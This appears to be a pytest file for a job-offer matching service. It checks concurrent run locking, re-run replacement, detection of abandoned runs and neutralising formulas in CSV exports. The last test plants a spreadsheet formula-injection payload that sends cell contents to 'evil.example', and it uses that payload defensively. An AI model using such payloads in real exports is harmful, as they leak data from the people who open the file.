"""One run per city-week (issue 13): concurrent starts, re-runs refused unless replaced, a
replacement superseding the earlier pending offers; runs whose process died shown as abandoned
when listed; exported CSV cells that would be spreadsheet formulas made inert."""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select, update

from matcher.generator import GeneratedProvince
from matcher.runs import RunConflict, export_run, run_week, start_run
from matcher.storage import make_engine, upgrade
from matcher.storage.models import Offer, Run
from matcher.storage.upsert import upsert_tables


def test_one_start_wins_when_two_start_the_same_week_at_once(loaded: Engine) -> None:
    barrier = threading.Barrier(4)
    started: list[int] = []
    refused: list[str] = []

    def start() -> None:
        barrier.wait()
        try:
            started.append(start_run(loaded, "2101", "2009-W20"))
        except RunConflict as error:
            refused.append(str(error))

    threads = [threading.Thread(target=start) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert len(started) == 1 and len(refused) == 3
    assert all("already being run" in message for message in refused)
    # Another city's same week is not held up.
    assert start_run(loaded, "2102", "2009-W20") != started[0]


def _offers(engine: Engine, week: str) -> dict[str, int]:
    with engine.connect() as connection:
        rows = connection.execute(
            select(Offer.outcome, func.count())
            .where(Offer.city == "2101", Offer.week == week)
            .group_by(Offer.outcome)
        ).all()
    return {str(k): int(v) for k, v in rows}


def test_rerun_is_refused_unless_replaced_and_replacing_never_doubles(
    sqlite_loaded: Engine,
) -> None:
    first = run_week(sqlite_loaded, "2101", "2009-W12")
    offers = _offers(sqlite_loaded, "2009-W12")
    with pytest.raises(RunConflict, match="--replace"):
        run_week(sqlite_loaded, "2101", "2009-W12")
    second = run_week(sqlite_loaded, "2101", "2009-W12", replace=True)
    assert second.output_hash == first.output_hash
    assert _offers(sqlite_loaded, "2009-W12") == {
        "pending": offers["pending"],
        "superseded": offers["pending"],
    }
    # The next week counts the places held once (as after a single run).
    with sqlite_loaded.connect() as connection:
        from matcher.runs import load_inputs

        inputs = load_inputs(connection, "2101", "2009-W13")
    assert len(inputs.offers) == offers["pending"]


def _dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_listing_marks_runs_of_dead_processes_abandoned(loaded: Engine) -> None:
    run_id = start_run(loaded, "2102", "2009-W21")
    with loaded.begin() as connection:
        connection.execute(
            update(Run)
            .where(Run.run_id == run_id)
            .values(worker=f"{socket.gethostname()}:{_dead_pid()}")
        )
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from api import create_app
    from api.settings import Settings
    from matcher.storage.keys import create_key

    key = create_key(loaded, "province")
    url = loaded.url.render_as_string(hide_password=False)
    with TestClient(create_app(Settings(db=url, key_cache_seconds=0))) as client:
        listed = client.get(
            "/api/v1/runs?status=abandoned", headers={"Authorization": f"Bearer {key}"}
        ).json()
    assert [item["run_id"] for item in listed["items"]] == [run_id]


def test_exports_make_formula_cells_inert(tmp_path: Path, province: GeneratedProvince) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'csv.db'}")
    upgrade(engine)
    tables = {name: frame.copy() for name, frame in province.tables.items()}
    seekers = tables["seekers"]
    target = seekers.loc[seekers["city"] == "2101", "seeker_id"].iloc[0]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    seekers.loc[seekers["seeker_id"] == target, "seeker_id"] = evil
    with engine.begin() as connection:
        upsert_tables(connection, tables)
    outcome = run_week(engine, "2101", "2009-W12")
    with engine.connect() as connection:
        files = export_run(connection, outcome.run_id)
    engine.dispose()
    text = b"".join(files[name] for name in files if name.endswith(".csv")).decode()
    assert "'=HYPERLINK" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
